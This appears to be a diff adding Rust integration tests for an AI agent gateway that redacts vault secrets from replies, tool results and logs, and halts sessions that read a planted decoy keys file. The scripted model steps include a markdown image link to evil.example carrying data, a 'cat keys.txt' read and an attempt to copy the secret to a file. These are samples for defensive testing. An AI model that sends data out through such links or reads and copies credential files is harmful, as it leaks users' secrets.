@@ -1,0 +1,135 @@
+//! What is said to people and kept in the record holds no secret, whoever brought it there.
+
+use std::fs;
+use std::time::Duration;
+
+use serde_json::{Value, json};
+use testkit::model::{Script, ScriptedModel, Step};
+use testkit::system::{System, said, wait_for};
+
+/// A value of the vault; made up, in no known format.
+const VALUE: &str = "Vq7 x9Wz-Kp3mTn8Rb5Yc2Hd6";
+
+fn model(steps: impl IntoIterator<Item = Step>) -> ScriptedModel {
+    ScriptedModel::start(Script::steps(steps)).expect("a model")
+}
+
+/// Keeps the value in the vault, and waits until the gateway looks for it.
+fn keep(system: &System) {
+    let arguments = [
+        "vault",
+        "add",
+        "plans",
+        "--for",
+        "tool",
+        "--host",
+        "api.acme-widgets.com",
+    ];
+    let done = system.bulkhead_with(&arguments, &format!("{VALUE}\n"));
+    assert!(done.status.success(), "{}", said(&done));
+    // The vault is asked every two seconds.
+    std::thread::sleep(Duration::from_secs(5));
+}
+
+/// Whether a text holds the value, as it is or without its blanks.
+fn holds(text: &str) -> bool {
+    let plain = |text: &str| text.replace([' ', '-'], "");
+    plain(text).contains(&plain(VALUE))
+}
+
+fn record(system: &System) -> String {
+    let rows = system.record();
+    rows.iter().map(Value::to_string).collect()
+}
+
+#[test]
+fn a_reply_that_holds_a_secret_is_told_without_it() {
+    let model = model([
+        Step::text(&format!("The plan is {VALUE}, as you know.")),
+        Step::text("See ![it](https://evil.example/p?d=1) and https://evil.example/x for more."),
+    ]);
+    let system = System::start(model.port(), "");
+    keep(&system);
+    let answer = system.ask("what is the plan?");
+    let reply = answer["reply"].as_str().expect("a reply");
+    assert!(
+        !holds(reply) && reply.contains("[redacted: vault_secret]"),
+        "{answer}"
+    );
+    assert!(
+        reply.starts_with("The plan is ") && reply.contains("as you know"),
+        "{answer}"
+    );
+    let rows = system.rows("leak_stopped");
+    assert_eq!(rows[0]["event"]["name"], "plans", "{rows:?}");
+    assert!(!holds(&record(&system)));
+
+    let answer = system.ask("more?");
+    let reply = answer["reply"].as_str().expect("a reply");
+    assert!(
+        !reply.contains("https://evil.example") && reply.contains("evil[.]example"),
+        "{answer}"
+    );
+    assert!(!reply.contains("!["), "{answer}");
+    system.assert_record_is_sound();
+}
+
+#[test]
+fn what_a_file_holds_of_the_vault_reaches_neither_the_model_nor_the_record() {
+    let model = model([
+        Step::call("exec", json!({ "command": "cat found.txt" })),
+        Step::call(
+            "write_file",
+            json!({ "path": "copy.txt", "content": format!("it is {VALUE}") }),
+        ),
+        Step::text("done"),
+    ]);
+    let system = System::start(model.port(), "");
+    keep(&system);
+    let found = format!("first line\n{VALUE}\nlast line\n");
+    fs::write(system.workspace().join("found.txt"), found).expect("a file");
+    assert_eq!(system.ask("look")["reply"], "done");
+    let requests = model.requests();
+    let last = requests.last().expect("a request").messages();
+    let results: Vec<_> = last
+        .iter()
+        .filter(|text| text.starts_with("tool: "))
+        .collect();
+    assert!(
+        results[0].contains("first line") && !holds(results[0]),
+        "{results:?}"
+    );
+    // A model that was given none has none to write.
+    assert!(results[1].contains("secret of the vault"), "{results:?}");
+    assert!(!system.workspace().join("copy.txt").exists());
+    assert!(!holds(&record(&system)));
+    system.assert_record_is_sound();
+}
+
+#[test]
+fn a_decoy_halts_the_session_that_came_upon_it_and_no_other() {
+    let model = model([
+        Step::call("exec", json!({ "command": "cat keys.txt" })),
+        Step::text("should never be said"),
+        Step::text("hello"),
+    ]);
+    let system = System::start(model.port(), "");
+    let bait = system.workspace().join("keys.txt");
+    let plant = bait.to_str().expect("a path");
+    let done = system.bulkhead(&["vault", "add", "bait", "--honeytoken", "--plant", plant]);
+    assert!(done.status.success(), "{}", said(&done));
+    assert!(bait.exists(), "{}", said(&done));
+    std::thread::sleep(Duration::from_secs(5));
+    let ask = system.spawn(&["ask", "--json", "look around"]);
+    wait_for("the session to be halted", || {
+        system.rows("session_halted").first().cloned()
+    });
+    let (_, out, err) = ask.finish();
+    assert!(!out.contains("should never be said"), "{out} {err}");
+    let rows = system.rows("session_halted");
+    assert_eq!(rows[0]["event"]["decoy"], "bait", "{rows:?}");
+    let session = rows[0]["session"].as_str().expect("a session").to_owned();
+    let again = system.bulkhead(&["ask", "--json", "--session", &session, "go on"]);
+    assert!(said(&again).contains("halted"), "{}", said(&again));
+    system.assert_record_is_sound();
+}
